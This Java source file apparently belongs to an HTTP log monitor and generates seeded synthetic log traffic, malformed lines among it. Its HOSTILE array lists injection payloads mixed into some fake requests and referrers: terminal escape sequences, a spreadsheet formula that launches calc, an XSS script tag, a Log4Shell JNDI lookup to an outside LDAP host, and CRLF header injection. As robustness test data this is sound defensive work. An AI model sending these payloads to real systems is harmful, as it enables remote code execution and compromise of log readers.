package httpmonitor.generate;

import httpmonitor.generate.site.Dice;
import httpmonitor.generate.site.Hit;
import httpmonitor.generate.site.ResponseTimes;
import httpmonitor.generate.site.Site;

/**
 * Lines of made-up traffic: the same ones for the same content and seed. Odd ones are the lines of real logs that are
 * no requests: handshakes of TLS on a plain port, connections that ask nothing, garbage, lines that a full disk cut
 * off, and texts written to harm the reader of a log. No line contains a line feed.
 */
final class GeneratedLines {

    private static final String[] HOSTILE = {
        "\u001b[2J\u001b[1;1H\u001b[31mall is well",
        "\u001b]0;owned\u0007",
        "=cmd|' /C calc'!A0",
        "\\\"><script>alert(1)</script>",
        "${jndi:ldap://192.0.2.66/a}",
        "\u009b31m\u0000\b\b\b",
        "%0d%0aSet-Cookie:%20a=b",
        "\u00e2\u0080\u00aereversed",
        "@SUM(1+1)*cmd",
    };

    private final LogFormat format;
    private final int malformed;
    private final Dice dice;
    private final Site site;
    private final ResponseTimes times;
    private long timeOf = Long.MIN_VALUE;
    private String time = "";

    GeneratedLines(LineContent content, long seed) {
        this.format = content.format();
        this.malformed = content.malformed();
        this.dice = new Dice(seed, 1);
        this.site = new Site(content.errors(), dice);
        this.times = new ResponseTimes(new Dice(seed, 2));
    }

    /** Appends the next line without a newline. */
    void append(StringBuilder line, long epochSecond) {
        if (epochSecond != timeOf) {
            timeOf = epochSecond;
            time = format.time(epochSecond);
        }
        Hit hit = site.next();
        if (format.hasDurations()) {
            hit = hit.took(times.micros(hit, epochSecond));
        }
        if (dice.chance(malformed)) {
            appendOdd(line, hit);
        } else {
            format.append(line, hit, time);
        }
    }

    /** Appends an odd line; {@code hit} lends what is not odd about it. */
    private void appendOdd(StringBuilder line, Hit hit) {
        int kind = dice.below(5);
        if (kind == 2) {
            garbage(line);
            return;
        }
        int start = line.length();
        Hit odd = switch (kind) {
            case 0 -> hit.with(handshake(), 400, 226);
            case 1 -> hit.with("-", 408, Hit.NO_BODY);
            case 3 -> hit;
            default -> hostile(hit);
        };
        format.append(line, odd, time);
        if (kind == 3) {
            line.setLength(start + 1 + dice.below(line.length() - start - 1));
        }
    }

    // Written as servers write it: bytes that cannot be printed are escaped.
    private String handshake() {
        StringBuilder request = new StringBuilder("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03");
        for (int i = 0; i < 16; i++) {
            request.append("\\x").append(Integer.toHexString(0x80 + dice.below(0x80)));
        }
        return request.toString();
    }

    private void garbage(StringBuilder line) {
        int length = 20 + dice.below(180);
        for (int i = 0; i < length; i++) {
            int value = dice.below(256);
            line.append(value == '\n' || value == '\r' ? '?' : (char) value);
        }
    }

    private Hit hostile(Hit hit) {
        String text = HOSTILE[dice.below(HOSTILE.length)];
        return dice.percent(50)
                ? hit.with("GET /" + text + " HTTP/1.1", 404, 196)
                : hit.with("GET / HTTP/1.1", 200, 24_000).claiming("https://" + text, text);
    }
}
